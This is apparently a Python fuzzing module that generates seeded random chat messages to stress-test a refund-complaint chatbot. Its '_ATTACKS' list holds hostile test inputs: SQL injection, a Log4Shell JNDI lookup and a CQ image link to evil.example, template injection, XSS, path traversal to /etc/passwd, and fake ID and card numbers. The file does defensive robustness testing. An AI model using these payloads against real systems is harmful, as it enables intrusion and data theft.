"""造随机而不怀好意的话：由种子决定，夹着能把对话带到深处的正经回答。"""

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

MARKER = "枫叶橘子暗号"
"""混在话里的记号：机器人说的话、日志里都不许出现它。"""


def _words(line: str) -> list[str]:
    return line.split()


_COMMANDS = _words("菜单 场景 我的 进度 更新 材料 提醒 客服 申诉 结案 导出 删除 帮助 设置 管理 案件 证据 申请")
_CONTROLS = _words(
    "上一步 修改 为什么 不清楚 进度 退出 继续 人工 帮助 菜单 完成 推迟 停止 恢复提醒 同意群提醒 不要群提醒 换 好 是 否 "
    "算了 取消 确认删除 不删 依据 风险 改答案 日期算法 推迟2小时 明天再提醒 推迟60天 修改0 修改99 第三题改一下 看1 看99"
)
_MATTERS = _words(
    "孩子拿我手机给主播打赏了三千 快手小店买的鞋不想要了想退货 付了钱一直不发货 课程没法看想退钱 充值没到账 找不到客服 "
    "平台不给退想投诉 我想退款 打赏 退货 仅退款 充值 课程 12315 我刷了五百块后悔了 快币扣了两次"
)
_DATES = _words(
    "昨天 前天 上周五 11月20日 11.20 2026-11-01 2月30日 2099年1月1日 明天 十一月二十 上个月 三天前 昨天下午三点 0月0日"
)
_AMOUNTS = _words("5000 1.2万 99块9 ￥99.9 五千 -1 0 1e400 NaN ∞ 九九九九亿 0.001 三千左右")
_EVENTS = _words(
    "申请交上去了 商家同意了 商家昨天同意了 商家拒绝了 退款到账了 没到账 只退了一部分 不退了 受理了 投诉了 "
    "同意了 1昨天 2前天"
)
_EVENTS.extend(["更新 1", "更新 2", "更新 1 昨天", "更新 3 前天", "结案 2", "材料 1 2"])
_ATTACKS = [
    "[CQ:at,qq=all]",
    "[CQ:image,file=http://evil.example/a.png]",
    "[CQ:at,qq=",
    "&#91;CQ:at,qq=all&#93;",
    "@全体成员",
    "{0}{command}{code}{}",
    "%s%d%n%(name)s",
    "'; DROP TABLE refund_cases; --",
    '" OR 1=1 --',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "\x00",
    "\x1b[2J",
    "\u202e\u200b\ufeff",
    "\ud83d",
    "\\u0000\\",
    "A" * 300,
    "退" * 3000,
    "1" * 500,
    "👨‍👩‍👧‍👦" * 50,
    "\n" * 100,
    "11010519491231002X",
    "13800138000",
    "4111111111111111",
    "验证码 482913",
]
_ALPHABETS = [
    "退款打赏孩子商家课程充值快币小店申诉客服一二三四五六七八九十百千万年月日天不没有是的了吗",
    "abcdefghijklmnopqrstuvwxyzABCXYZ0123456789 ",
    "0123456789.,-年月日号/:：点半",
    "😀🙏👍🏻🀄️♀️🇨🇳",
    "，。？！、；：“”（）《》…—·~!@#$%^&*()_+{}|:<>?[]\\;',./`",
    "\u0000\u0007\u200b\u200d\u202e\ufeff\u3000\u00a0\t\r\n",
    "٣४༣Ⅷ㊿①½﷽𝟙𠮷ʼnßİıﬁ",
]


@dataclass
class Message:
    """要说的一句话，和它从哪来。"""

    text: str
    user: str
    where: str
    """``private``、``group``、``mention``、``temporary``。"""
    changes: dict[str, Any] = field(default_factory=dict[str, Any])


class Crowd:
    """一群随便乱说的人。

    Args:
        seed: 同一个种子说同样的话。
        people: 有多少人。
        codes: 现有的案件号，有时会被拿去试。
    """

    def __init__(self, seed: int, people: int, codes: Callable[[], list[str]]) -> None:
        self._random = random.Random(seed)
        self._codes = codes
        self._users = [str(60_000 + number) for number in range(people)]
        self._user = self._users[0]

    def messages(self, count: int) -> Iterator[Message]:
        """``count`` 句话。"""
        for _ in range(count):
            yield self._message()

    def _message(self) -> Message:
        where = self._random.choices(("private", "group", "mention", "temporary"), (14, 4, 1, 1))[0]
        changes: dict[str, Any] = {}
        if self._random.random() < 0.05:
            changes["segments"] = (self._random.choice(("image", "face", "record", "forward", "json")),)
        if self._random.random() < 0.05:
            changes["reply_to"] = str(-self._random.randrange(1, 400))
        if where in ("group", "mention"):
            changes["is_group_admin"] = self._random.choice((True, False, None))
        if where == "private" and self._random.random() < 0.02:
            changes["is_superuser"] = True
        if self._random.random() < 0.1:  # 一个人常常连着说几句，这样才走得到深处
            self._user = self._random.choice(self._users)
        return Message(self._text(), self._user, where, changes)

    def _text(self) -> str:
        draw = self._random
        kind = draw.choices(
            ("number", "said", "control", "command", "matter", "attack", "noise", "mixed", "empty"),
            (40, 12, 10, 8, 6, 6, 8, 8, 2),
        )[0]
        match kind:
            case "number":
                return draw.choice(
                    ("1", "2", "3", "4", "5", "6", "7", "8", "1 3", "1、2", "10", "99", str(draw.randrange(200)))
                )
            case "said":
                return draw.choice(draw.choice((_DATES, _AMOUNTS, _EVENTS)))
            case "control":
                return draw.choice(_CONTROLS)
            case "command":
                return self._command()
            case "matter":
                return draw.choice(_MATTERS)
            case "attack":
                return draw.choice(_ATTACKS)
            case "noise":
                return self._noise()
            case "mixed":
                parts = [self._noise(), draw.choice(_ATTACKS), draw.choice(_MATTERS), MARKER, draw.choice(_DATES)]
                draw.shuffle(parts)
                return "".join(parts[: draw.randrange(2, 6)])
            case _:
                return ""

    def _command(self) -> str:
        draw = self._random
        word = draw.choice(_COMMANDS)
        if draw.random() < 0.2:
            word = word[: draw.randrange(1, len(word) + 1)]
        argument = draw.choice(
            ("", "", self._code(), self._noise(), "关键词 关", "关键词 开", MARKER, "直播打赏", "99")
        )
        start = draw.choice(("/退款 ", "退款 ", "/退款", "／退款 ", "", "/"))
        return f"{start}{word} {argument}".strip()

    def _code(self) -> str:
        codes = self._codes()
        return self._random.choice(codes) if codes else "K7Q2"

    def _noise(self) -> str:
        alphabet = self._random.choice(_ALPHABETS)
        return "".join(self._random.choice(alphabet) for _ in range(self._random.randrange(1, 40)))
